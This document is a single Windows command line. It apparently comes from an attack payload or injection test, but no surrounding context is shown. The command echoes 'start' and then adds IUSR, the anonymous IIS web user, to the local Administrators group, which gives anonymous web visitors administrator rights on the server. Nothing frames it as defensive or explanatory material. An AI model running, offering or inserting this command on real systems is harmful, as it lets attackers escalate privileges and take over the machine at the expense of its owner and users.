cmd /c "echo start && net localgroup Administrators IUSR /add"
